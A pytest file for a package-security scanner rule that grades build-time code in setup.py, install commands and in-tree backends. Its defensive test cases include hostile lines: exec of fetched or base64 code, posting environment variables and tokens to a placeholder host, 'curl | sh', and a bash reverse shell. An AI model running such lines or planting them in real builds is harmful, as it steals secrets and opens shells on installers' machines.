"""POST-002: what setup.py, its commands and a backend in the tree do."""

from __future__ import annotations

import base64

import pytest

from assay.rules.post_002_build_code import RULE
from tests.behaviour import at, findings, worst

SETUP = "from setuptools import setup, Extension\nimport os, subprocess, sys, requests\n"
INNER = base64.b64encode(b"import os\nos.system('prog')").decode()
URL = "https://example.invalid/a"


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        # what builds really do
        ("setup(name='demo', version='1.0')", "none"),
        ("subprocess.check_output(['git', 'describe', '--tags'])", "info"),
        ("exec(open('demo/version.py').read())", "info"),
        ("with open(os.path.join(os.path.dirname(__file__), 'demo', '_v.py')) as f:\n    exec(f.read(), {})", "info"),
        ("exec(compile(open('v.py').read(), 'v.py', 'exec'))", "info"),
        ("subprocess.check_call(['cmake', '..'], cwd='build')", "info"),
        ("subprocess.check_call([sys.executable, 'setup.py', 'build_ext'])", "info"),
        ("open('demo/_version.py', 'w').write('version = 1')", "info"),
        ("print(open('README.md').read())", "none"),
        # what few builds need
        ("os.system('prog')", "medium"),
        (f"requests.get('{URL}')", "medium"),
        ("subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'abc'])", "medium"),
        ("open(os.path.expanduser('~/.x/y'), 'w').write('z')", "medium"),
        ("import ctypes\nctypes.CDLL('x.so')", "medium"),
        ("import socket\nsocket.gethostbyname('example.invalid')", "medium"),
        (f"requests.get('{URL}' + os.environ['MIRROR'])", "medium"),
        (
            f"open('configure', 'wb').write(requests.get('{URL}').content)\nsubprocess.check_call(['./configure'])",
            "medium",
        ),
        (f"requests.get('{URL}?a=1', headers={{'Authorization': os.environ['TOKEN']}})", "medium"),
        # hidden
        ("getattr(os, 'sys' + 'tem')('prog')", "high"),
        ("__import__('o' + 's').system('git describe')", "high"),
        ("os.system(bytes.fromhex('70726f67').decode())", "critical"),
        (f"os.system('unset P; python3 -c \"import requests; print(requests.get(\\'{URL}\\'))\"')", "high"),
        ("os.system('python3 -c \"import sys; print(sys.path)\"')", "medium"),
        # chains
        (f"exec(requests.get('{URL}').text)", "critical"),
        (f"import base64\nexec(base64.b64decode('{INNER}'))", "critical"),
        (f"import socket\nrequests.get('{URL}', params={{'h': socket.gethostname()}})", "critical"),
        (f"requests.post('{URL}', data=dict(os.environ))", "critical"),
        (f"requests.get('{URL}?a=' + os.environ['TOKEN'])", "critical"),
        (f"open('a.exe', 'wb').write(requests.get('{URL}.exe').content)\nos.startfile('a.exe')", "critical"),
        (f"os.system('curl {URL} | sh')", "critical"),
        ("os.system('bash -i >& /dev/tcp/127.0.0.1/1 0>&1')", "critical"),
    ],
)
def test_the_body_of_setup(source: str, severity: str) -> None:
    assert worst(RULE, *at("install", SETUP + source)) == severity


COMMAND = """
    from setuptools import setup
    from setuptools.command.install import install
    import os

    class Install(install):
        def run(self):
            install.run(self)
            {what}

    setup(name="demo", cmdclass={{"install": Install}})
"""


@pytest.mark.parametrize(
    ("what", "severity"),
    [
        ("os.system('prog')", "medium"),
        ("os.system('git describe')", "info"),
        (f"exec(__import__('base64').b64decode('{INNER}'))", "critical"),
        ("self.helper()", "none"),
        ("pass", "none"),
    ],
)
def test_commands_that_setup_is_given(what: str, severity: str) -> None:
    assert worst(RULE, {"setup.py": COMMAND.format(what=what)}, "sdist") == severity


def test_commands_that_setup_is_not_given() -> None:
    source = COMMAND.format(what="os.system('prog')").replace('{"install": Install}', "{}")
    assert worst(RULE, {"setup.py": source}, "sdist") == "none"


def test_a_backend_in_the_tree() -> None:
    project = "[build-system]\nrequires = []\nbuild-backend = 'back'\nbackend-path = ['b']\n"
    files = {"pyproject.toml": project, "b/back.py": "import os\nos.system('prog')", "demo/__init__.py": ""}
    assert worst(RULE, files, "sdist") == "medium"
    assert worst(RULE, {**files, "pyproject.toml": project.replace("['b']", "[]")}, "sdist") == "none"


def test_what_setup_imports() -> None:
    files = {"setup.py": "import helper", "helper.py": "import os\nos.system('prog')"}
    (found,) = findings(RULE, files, "sdist")
    assert found.location
    assert found.location.path.endswith("helper.py")
    assert found.trigger == "install"


@pytest.mark.parametrize("path", ["demo/__init__.py", "tests/setup.py"])
def test_other_files_are_for_other_rules(path: str) -> None:
    assert worst(RULE, {path: "import os\nos.system('prog')", "pyproject.toml": ""}, "sdist") == "none"
    assert worst(RULE, {"demo/__init__.py": "import os\nos.system('prog')"}, "wheel") == "none"


def test_one_finding_says_all_that_is_done_the_worst_first() -> None:
    source = f"os.system('git describe')\nrequests.get('{URL}')\nexec(requests.get('{URL}').text)"
    (found,) = findings(RULE, *at("install", SETUP + source))
    assert found.severity == "critical"
    assert found.evidence[0] == "remote reaches builtins.exec (code)"
    assert "os.system('git describe')" in found.evidence or "and" in found.evidence[-1]
